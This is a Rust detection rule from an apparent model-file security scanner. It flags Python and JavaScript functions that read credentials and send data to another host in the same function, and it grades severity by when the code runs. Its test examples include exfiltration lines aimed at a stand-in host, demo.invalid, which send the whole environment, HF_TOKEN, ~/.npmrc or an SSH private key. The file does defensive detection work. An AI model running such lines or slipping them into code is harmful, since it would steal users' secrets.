//! Sources that read credentials and talk to other hosts in one function.

use std::collections::BTreeMap;

use weighbridge_domain::facts::{Use, When};
use weighbridge_domain::{Confidence, Severity};

use super::source::{self, texts};
use super::{Check, Example, Findings, Light, Rule};
use crate::facts::{Facts, Place};
use crate::known::effects::{Effect, effect_in};
use crate::known::places::{self, place};
use crate::samples::script::script;
use crate::samples::source::{function, module};
use crate::text;

/// Sources that read credentials and talk to other hosts in one function.
pub static RULE: Rule = Rule {
    id: "source-sends-secrets",
    severity: Severity::Critical,
    confidence: Confidence::Medium,
    light: Light::Content,
    since: "0.1.0",
    summary: "A source reads credentials and sends something to another host, in one function",
    why: "Tokens of hubs and clouds are in the environment and in files of the home folder of whoever loads a model. Critical \
          when a file of keys or the whole environment is read and something is sent as soon as the file is imported, else \
          high; where a variable with a token's name is read, as clients of services do: high on import, medium while the model \
          is loaded or answers, low elsewhere. In scripts that no loader of models runs by itself (JavaScript) only files of \
          keys and the whole environment count, as high and medium.",
    advice: "Find out what is sent where. Load models without credentials in the environment.",
    references: &["CWE-200", "CWE-522", "AML.T0025", "AML.T0055"],
    examples: &[
        Example {
            name: "javascript-environment",
            files: || {
                script("fetch('https://demo.invalid', {method: 'POST', body: JSON.stringify(process.env)})")
            },
            fires: &["source-opens-network", "source-sends-secrets"],
        },
        Example {
            name: "javascript-environment-twin",
            files: || {
                script("fetch('https://demo.invalid', {headers: {Authorization: process.env.HF_TOKEN}})")
            },
            fires: &["source-opens-network"],
        },
        Example {
            name: "javascript-file",
            files: || {
                script(
                    "const key = require('fs').readFileSync(require('os').homedir() + '/.npmrc');\nfetch('https://demo.invalid', {body: key})",
                )
            },
            fires: &["source-opens-network", "source-sends-secrets"],
        },
        Example {
            name: "token",
            files: || {
                function(
                    "import os, requests",
                    "requests.post('https://demo.invalid', data=os.environ['HF_TOKEN'])",
                )
            },
            fires: &["source-opens-network", "source-sends-secrets"],
        },
        Example {
            name: "token-twin",
            files: || {
                function(
                    "import os, requests",
                    "requests.post('https://demo.invalid', data=os.environ['HOME'])",
                )
            },
            fires: &["source-opens-network"],
        },
        Example {
            name: "token-alone-twin",
            files: || function("import os", "return os.environ['HF_TOKEN']"),
            fires: &[],
        },
        Example {
            name: "environment",
            files: || {
                module(
                    "import os, urllib.request\nurllib.request.urlopen('https://demo.invalid', str(dict(os.environ)).encode())",
                )
            },
            fires: &["source-opens-network", "source-sends-secrets"],
        },
        Example {
            name: "environment-for-a-process-twin",
            files: || function("import os, subprocess", "subprocess.run(x, env=dict(os.environ))"),
            fires: &["source-starts-process"],
        },
        Example {
            name: "file",
            files: || {
                function(
                    "import os, socket",
                    "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\ns = socket.socket()\ns.sendall(k.encode())",
                )
            },
            fires: &["source-opens-network", "source-sends-secrets"],
        },
        Example {
            name: "file-twin",
            files: || {
                function(
                    "import os, socket",
                    "k = open(os.path.expanduser('~/.cache/demo')).read()\ns = socket.socket()\ns.sendall(k.encode())",
                )
            },
            fires: &["source-opens-network"],
        },
        Example {
            name: "in-two-functions-twin",
            files: || {
                module(
                    "import os, requests\ndef token():\n    return os.environ['HF_TOKEN']\ndef fetch():\n    requests.get('https://demo.invalid')",
                )
            },
            fires: &["source-opens-network"],
        },
    ],
    check: Check::File(check),
};

/// What one function does.
#[derive(Default)]
struct Function<'a> {
    /// What it reads, and whether that is more than one token.
    reads: Option<(Place<'a>, &'a Use, bool)>,
    sends: Option<&'a Use>,
}

fn check(facts: &Facts, findings: &mut Findings<'_>) {
    let mut functions: BTreeMap<(usize, &str), Function<'_>> = BTreeMap::new();
    for (place, one) in facts.uses().filter(|(place, _)| place.is_of_python() || place.is_of_javascript()) {
        let part = std::ptr::from_ref(place.reading).addr();
        let function = functions.entry((part, &one.within)).or_default();
        match effect_in(one.language, &one.name) {
            Some(Effect::Network) => {
                function.sends.get_or_insert(one);
            }
            Some(Effect::Environment | Effect::Reads) => {
                let Some(much) = reads(one) else { continue };
                // A token that a script uses where it asks a hub is no secret that it sends away.
                if !much && !source::is_python(one) {
                    continue;
                }
                if function.reads.is_none_or(|(_, _, before)| much && !before) {
                    function.reads = Some((place, one, much));
                }
            }
            _ => {}
        }
    }
    for Function { reads, sends } in functions.into_values() {
        let (Some((place, one, much)), Some(sends)) = (reads, sends) else { continue };
        let when = one.when.max(sends.when);
        let severity = match (much, when) {
            (true, When::Loaded | When::Installed) if !source::is_python(one) => Severity::High,
            (true, _) if !source::is_python(one) => Severity::Medium,
            (true, When::Loaded | When::Installed) => Severity::Critical,
            (true, _) | (false, When::Loaded | When::Installed) => Severity::High,
            (false, When::Served) => Severity::Medium,
            (false, When::Called) => Severity::Low,
        };
        let message = format!(
            "`{}` reads credentials, and `{}` talks to another host in the same function, {}",
            source::shown(one),
            text::shown(&sends.name, 80),
            source::words(when)
        );
        let finding = findings.add(place, message);
        finding.severity = severity;
        finding.excerpt = Some(text::shown(&one.text, 300));
    }
}

/// Whether it reads credentials, and then whether that is more than one of them.
fn reads(one: &Use) -> Option<bool> {
    let Some(arguments) = &one.arguments else { return Some(true) };
    let mut texts = arguments.iter().flat_map(|argument| texts(&argument.value));
    if effect_in(one.language, &one.name) == Some(Effect::Reads) {
        return texts.any(|path| place(path) == Some(places::Place::Credentials)).then_some(true);
    }
    let whole = matches!(one.name.rsplit('.').next(), Some("copy" | "items" | "values" | "dotenv_values"));
    Some(whole && texts.next().is_none())
}
